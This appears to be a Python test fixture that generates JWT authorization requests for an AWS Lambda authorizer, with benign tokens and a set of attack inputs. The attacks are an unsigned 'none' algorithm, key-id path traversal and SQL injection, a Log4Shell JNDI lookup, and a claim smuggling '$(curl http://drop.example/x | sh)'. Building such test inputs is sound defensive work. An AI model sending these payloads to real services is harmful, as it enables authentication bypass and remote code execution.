# SPDX-License-Identifier: Apache-2.0
"""Tokens that clients bring to jwt-auth, and what attackers do."""

import base64
import hashlib
import hmac
import json

RUNTIME = "java"
HANDLER = "Handler::handleRequest"
ENVIRONMENT = {"TOKEN_SECRET": "7c1e-not-a-real-secret"}


def _encode(data):
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def _token(traffic, head=None, secret=ENVIRONMENT["TOKEN_SECRET"], **claims):
    made = traffic.randrange(1_760_000_000, 1_790_000_000)
    claims = {"sub": traffic.uuid(), "name": traffic.person(), "iat": made, "exp": made + traffic.choice([3600, 86400, -60]),
              "scope": traffic.choice(["read", "read write", "write", "read admin"]), **claims}
    text = ".".join(_encode(json.dumps(part).encode()) for part in (head or {"alg": "HS256", "typ": "JWT"}, claims))
    return f"{text}.{_encode(hmac.new(secret.encode(), text.encode(), hashlib.sha256).digest())}"


def _ask(traffic, token):
    path = f"{traffic.choice(['GET', 'GET', 'POST', 'PUT', 'DELETE'])}/{traffic.choice(['orders', 'customers', 'reports'])}/{traffic.randrange(10000)}"
    return {"type": "TOKEN", "authorizationToken": token, "methodArn": f"arn:aws:execute-api:eu-west-1:123456789012:gy415nuibc/prod/{path}"}


def benign(traffic):
    kind = traffic.random()
    if kind < 0.95:
        return _ask(traffic, "Bearer " + _token(traffic))
    if kind < 0.98:
        return _ask(traffic, "Bearer " + _token(traffic, secret="another"))
    return _ask(traffic, traffic.choice(["", "Bearer", "Basic dXNlcjpwYXNzd29yZA==", "Bearer " + traffic.hex(32), "Bearer a.b.c"]))


INPUTS = {
    "no algorithm": lambda traffic: _ask(traffic, "Bearer " + _token(traffic, {"alg": "none", "typ": "JWT"}).rpartition(".")[0] + "."),
    "key by path": lambda traffic: _ask(traffic, "Bearer " + _token(traffic, {"alg": "HS256", "kid": "../../../../dev/null"})),
    "key by statement": lambda traffic: _ask(traffic, "Bearer " + _token(traffic, {"alg": "HS256", "kid": "x' UNION SELECT 'key' --"})),
    "lookup": lambda traffic: _ask(traffic, "Bearer ${jndi:ldap://drop.example/a}"),
    "command": lambda traffic: _ask(traffic, "Bearer " + _token(traffic, sub="$(curl http://drop.example/x | sh)")),
}
